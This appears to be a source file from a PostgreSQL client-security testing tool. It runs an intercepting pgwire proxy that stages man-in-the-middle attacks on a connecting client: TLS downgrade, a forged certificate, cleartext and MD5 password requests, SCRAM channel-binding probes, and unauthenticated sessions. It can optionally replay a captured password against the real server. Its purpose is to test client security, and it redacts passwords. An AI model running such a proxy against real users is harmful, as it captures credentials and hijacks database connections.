import { randomBytes } from "node:crypto";
import { createServer } from "node:net";
import { TLSSocket } from "node:tls";
import { Connection, describeSocketError } from "../net/connection.js";
import { frameMessage } from "../pgwire/backend.js";
import { parseFirstPacket, parseSaslInitialResponse } from "../pgwire/client-messages.js";
import { authenticationCleartextPassword, authenticationMd5Password, authenticationOk, authenticationSasl, authenticationSaslContinue, backendKeyData, errorResponse, parameterStatus, readyForQuery, } from "../pgwire/server-messages.js";
import { relay } from "./upstream-relay.js";
/** A client makes at most a couple of connections per run (sslmode=allow/prefer retry); more is not a client. */
const MAX_CONNECTIONS = 4;
/** A TLS record of type handshake: a ClientHello where a pgwire packet belongs. No startup packet begins so. */
const TLS_HANDSHAKE_RECORD = 0x16;
/** The ALPN protocol of PostgreSQL's direct TLS; libpq 17+ aborts a direct connection whose server selects none. */
const PG_ALPN = "postgresql";
/**
 * An intercepting pgwire server for one attack, bound to loopback by default. Each connection is walked through
 * the attack and what the client did is recorded as facts; the password, when one is sent, is measured and
 * dropped (or, with an upstream, used once to prove it works, then dropped).
 */
export async function startAttackProxy(o) {
    const facts = [];
    const sockets = new Set();
    const server = createServer((socket) => {
        sockets.add(socket);
        socket.on("close", () => sockets.delete(socket));
        if (facts.length >= MAX_CONNECTIONS) {
            socket.destroy();
            return;
        }
        const f = { steps: [], askedTls: false, tlsEstablished: false, answeredAuth: false };
        facts.push(f);
        handle(new Connection(socket), f, o).catch((e) => f.steps.push(`proxy error: ${describeSocketError(e)}`));
    });
    await new Promise((resolve, reject) => {
        server.once("error", reject);
        server.listen(o.listenPort, o.listenHost, () => resolve());
    });
    const address = server.address();
    if (!address || typeof address === "string")
        throw new Error("proxy: no port");
    return {
        port: address.port,
        connections: () => facts,
        close: () => new Promise((resolve) => {
            for (const s of sockets)
                s.destroy();
            server.close(() => resolve());
        }),
    };
}
async function handle(conn, f, o) {
    const step = (s) => f.steps.push(s);
    let client = conn;
    try {
        // Up to two untyped packets: GSSENCRequest (answered N), then SSLRequest (or a direct TLS handshake) or the
        // StartupMessage itself.
        for (let round = 0; round < 3; round++) {
            const head = await client.waitFor((b) => b[0], o.timeoutMs);
            if (head.kind !== "ok") {
                step(head.kind === "timeout" ? "client sent nothing before the timeout" : "client closed the connection");
                return;
            }
            if (head.value === TLS_HANDSHAKE_RECORD && !f.tlsEstablished) {
                f.askedTls = true;
                f.directTls = true;
                if (o.channel !== "direct-tls") {
                    step("client started a TLS handshake directly, without SSLRequest (sslnegotiation=direct); this proxy expects SSLRequest and closed the connection (the direct-forge attack is the one for this client)");
                    return;
                }
                const upgraded = await acceptTls(client, o);
                if ("refused" in upgraded) {
                    f.tlsRefused = upgraded.refused;
                    step(`client started TLS directly (no SSLRequest) and refused the handshake with the proxy's certificate (${upgraded.refused})`);
                    return;
                }
                client = upgraded.conn;
                f.tlsEstablished = true;
                step(`client started TLS directly (no SSLRequest) and completed it with the proxy's certificate (${upgraded.protocol}, ALPN ${upgraded.alpn ?? "none"})`);
                continue;
            }
            const first = await client.waitFor((b) => {
                const p = parseFirstPacket(b);
                return p.kind === "incomplete" ? undefined : p;
            }, o.timeoutMs);
            if (first.kind !== "ok") {
                step(first.kind === "timeout"
                    ? "client sent nothing before the timeout"
                    : "client closed the connection");
                return;
            }
            const packet = first.value;
            if (packet.kind === "invalid") {
                step(`client sent an invalid startup packet (${packet.reason})`);
                return;
            }
            client.consume(packet.length);
            if (packet.kind === "gssenc-request") {
                step("client asked for GSS encryption; proxy answered N");
                client.write(Buffer.from("N"));
                continue;
            }
            if (packet.kind === "cancel-request") {
                step("client sent a CancelRequest");
                return;
            }
            if (packet.kind === "ssl-request") {
                f.askedTls = true;
                if (o.channel === "direct-tls") {
                    step("client sent an SSLRequest instead of starting TLS directly: it does not use direct TLS (sslnegotiation=direct); proxy closed the connection");
                    return;
                }
                if (o.channel === "error-reply") {
                    step(`client asked for TLS (SSLRequest); proxy answered with an ErrorResponse carrying the marker '${o.marker ?? ""}'`);
                    client.write(errorResponse("08P01", o.marker ?? ""));
                    return;
                }
                if (o.channel === "plaintext") {
                    step("client asked for TLS (SSLRequest); proxy answered N (TLS not available)");
                    client.write(Buffer.from("N"));
                    continue;
                }
                step("client asked for TLS (SSLRequest); proxy answered S and presented its certificate");
                client.write(Buffer.from("S"));
                const upgraded = await acceptTls(client, o);
                if ("refused" in upgraded) {
                    f.tlsRefused = upgraded.refused;
                    step(`client refused the TLS handshake (${upgraded.refused})`);
                    return;
                }
                client = upgraded.conn;
                f.tlsEstablished = true;
                step(`client completed TLS with the proxy's certificate (${upgraded.protocol})`);
                continue;
            }
            // StartupMessage.
            const user = packet.params.user ?? "";
            const database = packet.params.database ?? user;
            f.startup = { user, database, inTls: f.tlsEstablished };
            if (o.channel === "direct-tls" && !f.tlsEstablished) {
                step(`client sent StartupMessage for user ${user}, database ${database} in plaintext: it does not use direct TLS (sslnegotiation=direct); proxy closed the connection`);
                return;
            }
            step(`client sent StartupMessage for user ${user}, database ${database} ${f.tlsEstablished ? "inside the attacker's TLS" : f.askedTls ? "in plaintext after N" : "in plaintext without asking for TLS"}`);
            if (o.channel === "error-reply") {
                // A plaintext server's error is the client's to show; only the reply to SSLRequest is the attack's.
                step("proxy answered with an ordinary error (no marker) and closed the connection");
                client.write(errorResponse("08P01", "no session in this attack"));
                return;
            }
            await authenticate(client, f, o, packet.params);
            return;
        }
    }
    finally {
        client.close();
        conn.close();
    }
}
async function acceptTls(conn, o) {
    if (!o.certificate)
        return { refused: "proxy has no certificate" };
    const socket = conn.detach();
    // Direct TLS: the ClientHello is already in the buffer. Handed back to the paused socket, it is what the TLS
    // socket reads first.
    if (conn.buffer.length > 0) {
        socket.pause();
        socket.unshift(conn.buffer);
        conn.consume(conn.buffer.length);
    }
    const tls = new TLSSocket(socket, {
        isServer: true,
        cert: o.certificate.certPem,
        key: o.certificate.keyPem,
        ...(o.channel === "direct-tls" ? { ALPNProtocols: [PG_ALPN] } : {}),
    });
    return new Promise((resolve) => {
        const timer = setTimeout(() => {
            tls.destroy();
            resolve({ refused: `no TLS handshake within ${o.timeoutMs} ms` });
        }, o.timeoutMs);
        tls.once("secure", () => {
            clearTimeout(timer);
            const alpn = tls.alpnProtocol || undefined;
            resolve({ conn: new Connection(tls), protocol: tls.getProtocol() ?? "TLS", ...(alpn ? { alpn } : {}) });
        });
        tls.once("error", (e) => {
            clearTimeout(timer);
            tls.destroy();
            resolve({ refused: alertText(e) });
        });
        tls.once("close", () => {
            clearTimeout(timer);
            resolve({ refused: "the client closed the connection during the handshake" });
        });
    });
}
function alertText(e) {
    const m = /alert ([a-z0-9 _]+)/i.exec(e?.message ?? "");
    return m ? `TLS alert: ${m[1]?.trim()}` : describeSocketError(e);
}
const nextMessage = (conn, timeoutMs) => conn.waitFor((b) => {
    const f = frameMessage(b);
    return f.kind === "incomplete" ? undefined : f;
}, timeoutMs);
/** After the StartupMessage: play the server's authentication, or relay it to the real server. */
async function authenticate(client, f, o, params) {
    const step = (s) => f.steps.push(s);
    const request = o.authRequest ?? (o.attack === "downgrade" ? "cleartext" : "scram");
    // An upstream that cannot be reached leaves the proxy to ask for authentication itself: what the client does on
    // the attacker's channel is the verdict, whether or not a query could then be run.
    if (o.upstream && request === "scram" && (await relay(client, f, o.upstream, params, o.timeoutMs)))
        return;
    if (request === "none")
        return trustAtOnce(client, f, o);
    if (request === "cleartext") {
        step("proxy asked for the password in cleartext (AuthenticationCleartextPassword)");
        client.write(authenticationCleartextPassword());
    }
    else if (request === "md5") {
        step("proxy asked for an MD5 password hash with a salt of its choosing (AuthenticationMD5Password)");
        client.write(authenticationMd5Password(randomBytes(4)));
    }
    else if (request === "scram-plus-offer") {
        step("proxy offered SCRAM-SHA-256-PLUS and SCRAM-SHA-256 (AuthenticationSASL)");
        client.write(authenticationSasl(["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"]));
    }
    else {
        // SCRAM without the -PLUS variant: a client that insists on channel binding refuses here, as it would against
        // the real server, whose binding data never matches the attacker's certificate.
        step("proxy asked for SCRAM-SHA-256 (AuthenticationSASL)");
        client.write(authenticationSasl(["SCRAM-SHA-256"]));
    }
    const body = await passwordReply(client, f, o);
    if (!body)
        return;
    f.answeredAuth = true;
    if (request === "cleartext" || request === "md5") {
        const end = body.indexOf(0);
        const text = body.subarray(0, end < 0 ? body.length : end).toString("utf8");
        if (request === "md5" && /^md5[0-9a-f]{32}$/.test(text)) {
            f.md5Answered = true;
            step("client sent an MD5 hash of its password salted with the attacker's salt (dropped; crackable offline)");
        }
        else {
            f.passwordLength = [...text].length;
            step(`client sent its password in cleartext (redacted, ${f.passwordLength} chars)`);
            if (o.replayPassword)
                await replayCaptured(f, o, params, text);
        }
    }
    else {
        const sasl = parseSaslInitialResponse(body);
        f.saslMechanism = sasl?.mechanism ?? "?";
        step(`client answered with a SASL ${f.saslMechanism} initial response (it authenticates to the attacker)`);
        if (request === "scram-plus-offer" && sasl?.mechanism === "SCRAM-SHA-256-PLUS")
            await continueBoundScram(client, f, o, sasl.data);
    }
    client.write(errorResponse("28P01", "password authentication failed"));
}
/** The client's next message; when none comes, the step says so ("client closed the connection instead of …"). */
async function clientMessage(client, f, o, instead) {
    const reply = await nextMessage(client, o.timeoutMs);
    if (reply.kind === "ok" && reply.value.kind === "message")
        return reply.value.message;
    f.steps.push(reply.kind === "timeout"
        ? "client sent nothing more before the timeout"
        : `client closed the connection instead of ${instead}`);
    return undefined;
}
/** The client's next message when it is a 'p' (password, SASL response), with the step that says what it did. */
async function passwordReply(client, f, o) {
    const reply = await clientMessage(client, f, o, "authenticating");
    if (!reply)
        return undefined;
    const { type, body } = reply;
    if (type !== "p") {
        f.steps.push(`client answered with message '${type}' instead of authenticating`);
        return undefined;
    }
    return body;
}
/** Downgrade with an upstream: the captured password logs in to the real server once, then is dropped. */
async function replayCaptured(f, o, params, password) {
    if (!o.replayPassword)
        return;
    f.query = await o.replayPassword(params.user ?? "", params.database ?? params.user ?? "", password);
    if (f.query?.result !== undefined) {
        f.upstreamAuthenticated = true;
        f.steps.push(`proxy logged in to the real server with it and ran ${f.query.sql} → ${f.query.result}`);
    }
    else
        f.steps.push(`proxy could not log in to the real server with it: ${f.query?.error ?? "unknown error"}`);
}
/**
 * The client chose SCRAM-SHA-256-PLUS: the proxy answers with a server-first-message so that the client has to
 * compute its binding data from the certificate it saw. A client that cannot (no hash for the certificate's
 * signature algorithm, as with Ed25519) must stop; one that sends a proof sends it bound to the attacker's
 * certificate, which the real server would reject.
 */
async function continueBoundScram(client, f, o, clientFirst) {
    const nonce = /(?:^|,)r=([^,]+)/.exec(clientFirst)?.[1];
    if (!nonce) {
        f.steps.push("the client's SCRAM initial response carries no nonce");
        return;
    }
    const serverFirst = `r=${nonce}${randomBytes(18).toString("base64")},s=${randomBytes(16).toString("base64")},i=4096`;
    client.write(authenticationSaslContinue(serverFirst));
    const body = await passwordReply(client, f, o);
    if (!body)
        return;
    const cbind = /(?:^|,)c=([^,]*)/.exec(body.toString("utf8"))?.[1] ?? "";
    const header = Buffer.from(cbind, "base64").toString("latin1");
    f.steps.push(header.startsWith("p=")
        ? "client sent its SCRAM proof bound to the attacker's certificate (the real server would see another one)"
        : "client sent its SCRAM proof without binding data");
}
/** AuthenticationOk with no authentication at all, then what a server sends before the first query. */
async function trustAtOnce(client, f, o) {
    f.steps.push("proxy sent AuthenticationOk at once, asking for no authentication");
    client.write(Buffer.concat([
        authenticationOk(),
        parameterStatus("server_version", "16.0"),
        parameterStatus("server_encoding", "UTF8"),
        parameterStatus("client_encoding", "UTF8"),
        parameterStatus("standard_conforming_strings", "on"),
        parameterStatus("DateStyle", "ISO, MDY"),
        parameterStatus("integer_datetimes", "on"),
        parameterStatus("TimeZone", "UTC"),
        backendKeyData(1, randomBytes(4).readInt32BE(0)),
        readyForQuery(),
    ]));
    const reply = await clientMessage(client, f, o, "using the session");
    if (!reply)
        return;
    const { type } = reply;
    if (type === "X") {
        f.steps.push("client ended the session (Terminate) without using it");
        return;
    }
    f.usedUnauthenticatedSession = true;
    f.answeredAuth = true;
    f.steps.push(`client used the session the proxy never authenticated itself for (message '${type}')`);
    client.write(errorResponse("08006", "connection taken over by wirewarden prove"));
}
//# sourceMappingURL=proxy.js.map